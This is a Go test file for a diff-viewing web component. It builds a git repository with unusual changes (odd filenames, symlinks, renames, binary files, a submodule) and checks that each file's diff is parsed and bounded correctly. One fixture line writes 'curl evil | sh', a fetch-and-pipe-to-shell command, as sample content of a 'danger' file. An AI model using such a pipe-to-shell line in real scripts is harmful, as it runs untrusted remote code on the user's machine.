package web

import (
	"errors"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/bangervm/banger/internal/api"
	"github.com/bangervm/banger/internal/fault"
	"github.com/bangervm/banger/internal/gittest"
)

// The bytes that names in a patch have to be told apart by.
const (
	oddName  = "q\"t\\ \n\x01\x7fé"
	noText   = "l\xe9"
	twoInOne = "ren b/ren"
)

// changedRepo is a repository, and the tree of a guest that changed it in every way that
// makes git write another first line, or two sections.
func changedRepo(t *testing.T) (dir, tree string) {
	t.Helper()
	gittest.Require(t)
	dir = t.TempDir()
	gittest.Git(t, dir, "init", "-q")
	for name, content := range map[string]string{
		"a-notes": "notes\n", "b-safe.go": "base\n", "c-danger.sh": "base\n", oddName: "odd\n", noText: "latin\n",
		"ren": strings.Repeat("many lines\n", 20), "bin": "\x00\x01", "gone": "gone\n", "mode": "mode\n", "z-link": "z\n",
	} {
		put(t, dir, name, content)
	}
	gittest.Git(t, dir, "add", "-A")
	gittest.Git(t, dir, "commit", "-qm", "base")
	for _, name := range []string{"a-notes", "z-link", "gone"} {
		if err := os.Remove(filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	gittest.Symlink(t, dir, "a-notes", "b-safe.go")
	gittest.Symlink(t, dir, "z-link", "a-notes")
	put(t, dir, "b-safe.go", "base\nsafe\n")
	put(t, dir, "c-danger.sh", "base\ncurl evil | sh\n")
	put(t, dir, oddName, "odd\nmore odd\n")
	put(t, dir, noText, "latin\nmore latin\n")
	put(t, dir, "bin", "\x00\x01\x02")
	if err := os.Chmod(filepath.Join(dir, "mode"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := errors.Join(os.Mkdir(filepath.Join(dir, "ren b"), 0o755), os.Rename(filepath.Join(dir, "ren"), filepath.Join(dir, "ren b", "ren"))); err != nil {
		t.Fatal(err)
	}
	gittest.Git(t, dir, "add", "-A")
	gittest.Git(t, dir, "update-index", "--add", "--cacheinfo", "160000,"+strings.TrimSpace(gittest.Git(t, dir, "rev-parse", "HEAD"))+",sub")
	return dir, strings.TrimSpace(gittest.Git(t, dir, "write-tree"))
}

func put(t *testing.T, dir, name, content string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil { //nolint:gosec // a work tree
		t.Fatal(err)
	}
}

// exportedRepo is the patch of changedRepo, and its files as the API has them.
func exportedRepo(t *testing.T, config ...string) (patch string, e api.Export) {
	t.Helper()
	dir, tree := changedRepo(t)
	args := append(slices.Clone(config), "diff-tree", "-r", "-M", "--full-index", "--src-prefix=a/", "--dst-prefix=b/")
	patch = gittest.Git(t, dir, append(slices.Clone(args), "--binary", "-p", "HEAD", tree)...)
	items := strings.Split(gittest.Git(t, dir, append(slices.Clone(args), "-z", "--raw", "HEAD", tree)...), "\x00")
	for len(items) > 1 {
		f := api.ExportedFile{Status: map[byte]string{'A': "added", 'D': "deleted", 'R': "renamed", 'T': "type_changed", 'M': "modified"}[strings.Fields(items[0])[4][0]]}
		f.Path, items = strings.ToValidUTF8(items[1], "\uFFFD"), items[2:]
		if f.Status == "renamed" {
			f.From, f.Path, items = f.Path, strings.ToValidUTF8(items[0], "\uFFFD"), items[1:]
		}
		e.Files = append(e.Files, f)
	}
	e.FileCount = len(e.Files)
	return patch, e
}

func textOf(d diffView) string {
	var all []string
	for _, l := range d.Lines {
		all = append(all, l.Sign+l.Text)
	}
	return strings.Join(all, "\n")
}

// Each page of a file shows that file's changes, whatever the guest did to the others.
func TestADiffIsOfItsFile(t *testing.T) {
	wants := map[string]string{
		"a-notes": "+b-safe.go", "b-safe.go": "+safe", "c-danger.sh": "+curl evil | sh", oddName: "+more odd", strings.ToValidUTF8(noText, "\uFFFD"): "+more latin",
		twoInOne: "rename from ren", "bin": "GIT binary patch", "gone": "−gone", "mode": "new mode 100755", "sub": "+Subproject commit", "z-link": "+a-notes",
	}
	for name, config := range map[string][]string{"as banger has it": {"-c", "core.quotePath=false"}, "quoted": {"-c", "core.quotePath=true"}} {
		patch, e := exportedRepo(t, config...)
		if len(e.Files) != len(wants) {
			t.Fatalf("%s: %d files, want %d: %+v", name, len(e.Files), len(wants), e.Files)
		}
		for n, f := range e.Files {
			d, err := readDiff(strings.NewReader(patch), e, n)
			if err != nil || wants[f.Path] == "" || !strings.Contains(textOf(d), wants[f.Path]) {
				t.Errorf("%s: the diff of %q: %v\n%s", name, f.Path, err, textOf(d))
			}
			for other, line := range wants {
				if other != f.Path && line[0] == '+' && strings.Contains("\n"+textOf(d)+"\n", "\n"+line+"\n") {
					t.Errorf("%s: the diff of %q has a line of %q:\n%s", name, f.Path, other, textOf(d))
				}
			}
			if f.Path == "a-notes" && !strings.Contains(textOf(d), "−notes") {
				t.Errorf("%s: of a changed type only one side is shown:\n%s", name, textOf(d))
			}
		}
	}
}

// A patch whose sections are not those of the export's files shows nothing.
func TestADiffOfOtherFilesIsNotShown(t *testing.T) {
	const a, b = "diff --git a/a b/a\n@@ -1 +1 @@\n-x\n+y\n", "diff --git a/b b/b\n@@ -1 +1 @@\n-x\n+y\n"
	file := func(path string) api.ExportedFile { return api.ExportedFile{Path: path, Status: "modified"} }
	changed := api.ExportedFile{Path: "a", Status: "type_changed"}
	moved := api.ExportedFile{Path: "a", From: "b", Status: "renamed"}
	for name, c := range map[string]struct {
		patch string
		files []api.ExportedFile
		n     int
	}{
		"one too many before":      {a + a + b, []api.ExportedFile{file("a"), file("b")}, 1},
		"one too many after":       {a + b, []api.ExportedFile{file("a")}, 0},
		"another after":            {a + a, []api.ExportedFile{file("a"), file("b")}, 0},
		"one too few":              {a, []api.ExportedFile{file("a"), file("b")}, 1},
		"the next is missing":      {a, []api.ExportedFile{file("a"), file("b")}, 0},
		"half of a changed type":   {a + b, []api.ExportedFile{changed, file("b")}, 1},
		"half of a changed type 2": {a, []api.ExportedFile{changed}, 0},
		"swapped":                  {b + a, []api.ExportedFile{file("a"), file("b")}, 0},
		"another from":             {a, []api.ExportedFile{moved}, 0},
		"a longer name":            {"diff --git a/a b/a b/a\n", []api.ExportedFile{file("a")}, 0},
		"an open quote":            {`diff --git "a/a b/a` + "\n", []api.ExportedFile{file("a")}, 0},
		"a bad escape":             {`diff --git "a/a\9" "b/a\9"` + "\n", []api.ExportedFile{file("a")}, 0},
		"a cut escape":             {`diff --git "a/a\`, []api.ExportedFile{file("a")}, 0},
		"nothing":                  {"", []api.ExportedFile{file("a")}, 0},
	} {
		d, err := readDiff(strings.NewReader(c.patch), api.Export{Files: c.files, FileCount: len(c.files)}, c.n)
		if !errors.Is(err, fault.Conflict) {
			t.Errorf("%s: %v, %+v", name, err, d)
		}
	}
}

// endless is a patch of one line that does not end.
type endless struct{ head io.Reader }

func (e endless) Read(p []byte) (int, error) {
	if n, err := e.head.Read(p); err == nil {
		return n, nil
	}
	for i := range p {
		p[i] = 'x'
	}
	return len(p), nil
}

func TestADiffIsBounded(t *testing.T) {
	e := api.Export{Files: []api.ExportedFile{{Path: "a"}, {Path: "b"}}, FileCount: 2}
	if _, err := readDiff(endless{strings.NewReader("diff --git a/a b/a\n")}, e, 1); !errors.Is(err, fault.Invalid) {
		t.Errorf("a patch without end: %v", err)
	}
	long := "diff --git a/a b/a\n@@ -0,0 +1,5000 @@\n" + strings.Repeat("+"+strings.Repeat("y", 3000)+"\n", 5000) + "diff --git a/b b/b\n"
	d, err := readDiff(strings.NewReader(long), e, 0)
	if err != nil || !d.Cut || len(d.Lines) != maxDiffLines || len(d.Lines[1].Text) > maxDiffLine {
		t.Errorf("%d lines, cut %v, %v", len(d.Lines), d.Cut, err)
	}
}

func FuzzReadDiff(f *testing.F) {
	f.Add("diff --git \"a/\\303\\251\" \"b/\\303\\251\"\n@@ -1 +1 @@\n-x\n+y\n")
	f.Fuzz(func(_ *testing.T, patch string) {
		_, _ = readDiff(strings.NewReader(patch), api.Export{Files: []api.ExportedFile{{Path: "é"}, {Path: "b"}}, FileCount: 2}, 1)
	})
}
